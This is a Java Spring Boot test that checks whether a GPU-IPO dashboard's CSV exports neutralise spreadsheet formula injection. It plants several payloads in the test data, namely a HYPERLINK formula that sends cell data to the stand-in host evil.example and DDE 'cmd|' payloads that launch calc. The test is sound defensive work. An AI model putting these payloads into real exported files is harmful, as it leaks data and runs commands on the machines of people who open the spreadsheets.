package io.gpuipowatch.export;

import java.io.IOException;
import java.io.InputStream;
import java.io.StringReader;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Objects;

import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.springframework.boot.test.context.SpringBootTest;
import org.springframework.boot.test.web.server.LocalServerPort;
import org.springframework.test.context.DynamicPropertyRegistry;
import org.springframework.test.context.DynamicPropertySource;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * A dataset whose texts are spreadsheet formulas, served by the real server: every export
 * writes them as text a spreadsheet will not run, and keeps the numbers numbers.
 */
@SpringBootTest(webEnvironment = SpringBootTest.WebEnvironment.RANDOM_PORT)
class FormulaInjectionTests {

	static final String HYPERLINK = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Open\")";

	static final String COMMAND = "+cmd|' /C calc'!A0";

	static final String AT = "@SUM(1+1)*cmd|' /C calc'!A0";

	static final String MINUS = "-2+3+cmd|' /C calc'!A0";

	@TempDir
	static Path dir;

	@LocalServerPort
	int port;

	@DynamicPropertySource
	static void hostileDataset(DynamicPropertyRegistry registry) throws IOException {
		// The market files may be left out: a dataset without them has none
		for (String file : List.of("sources.csv", "venues.csv", "groups.csv", "bases.csv", "metrics.csv",
				"companies.csv", "events.csv", "figures.csv")) {
			try (InputStream in = Objects
				.requireNonNull(FormulaInjectionTests.class.getResourceAsStream("/data/" + file))) {
				Files.write(dir.resolve(file), in.readAllBytes());
			}
		}
		replace("figures.csv", "公司以114.28元/股发行", quoted(HYPERLINK));
		replace("figures.csv", "Matches 600.50 ÷ 114.28 − 1 = 425.46%", quoted(COMMAND));
		replace("figures.csv", "A typo: 600.50 ÷ 114.28 − 1 = 425.46%", quoted(MINUS));
		replace("sources.csv", "Moore Threads IPO issue announcement (issue price and share count)", quoted(AT));
		replace("sources.csv", "摩尔线程首次公开发行股票发行公告（发行价格及发行数量）", quoted(AT));
		registry.add("dashboard.data-dir", dir::toString);
	}

	private static String quoted(String text) {
		return "\"" + text.replace("\"", "\"\"") + "\"";
	}

	private static void replace(String file, String old, String replacement) throws IOException {
		String text = Files.readString(dir.resolve(file));
		assertThat(text).as(file).containsOnlyOnce(old);
		Files.writeString(dir.resolve(file), text.replace(old, replacement));
	}

	@Test
	void formulasInTheDataAreWrittenAsText() throws Exception {
		for (String link : List.of("/figures.csv", "/figures.csv?company=moore-threads&lang=zh",
				"/compare.csv?c=moore-threads&c=metax")) {
			String csv = download(link);
			List<CSVRecord> rows = CSVFormat.DEFAULT.builder()
				.setHeader()
				.get()
				.parse(new StringReader(csv))
				.getRecords();
			for (CSVRecord row : rows) {
				for (String cell : row.values()) {
					assertThat(cell).as(link).doesNotStartWith("=").doesNotStartWith("+").doesNotStartWith("@");
					if (cell.startsWith("-")) {
						assertThat(cell).as(link).matches("-\\d+(\\.\\d+)?");
					}
				}
			}
			if (link.startsWith("/compare.csv")) {
				// The table as shown: its cells are the page's texts, not the data's
				// fields
				continue;
			}
			CSVRecord issuePrice = rows.stream()
				.filter(r -> r.get("figure_id").equals("mt-issue-price"))
				.findFirst()
				.orElseThrow();
			assertThat(issuePrice.get("phrase")).isEqualTo("'" + HYPERLINK);
			assertThat(issuePrice.get("value")).as("a number stays a number").isEqualTo("114.28");
			CSVRecord sharesOffered = rows.stream()
				.filter(r -> r.get("figure_id").equals("mt-shares-offered"))
				.findFirst()
				.orElseThrow();
			assertThat(sharesOffered.get("source_title")).isEqualTo("'" + AT);
		}
		List<CSVRecord> all = CSVFormat.DEFAULT.builder()
			.setHeader()
			.get()
			.parse(new StringReader(download("/figures.csv")))
			.getRecords();
		assertThat(all).filteredOn(r -> r.get("figure_id").equals("mt-gain-close"))
			.singleElement()
			.satisfies(r -> assertThat(r.get("reason")).isEqualTo("'" + COMMAND));
		assertThat(all).filteredOn(r -> r.get("figure_id").equals("mt-gain-close-chinacom"))
			.singleElement()
			.satisfies(r -> assertThat(r.get("reason")).isEqualTo("'" + MINUS));
	}

	private String download(String link) throws IOException, InterruptedException {
		HttpResponse<byte[]> answer = HttpClient.newHttpClient()
			.send(HttpRequest.newBuilder(URI.create("http://localhost:" + port + link)).build(),
					HttpResponse.BodyHandlers.ofByteArray());
		assertThat(answer.statusCode()).as(link).isEqualTo(200);
		return new String(answer.body(), StandardCharsets.UTF_8).substring(1);
	}

}
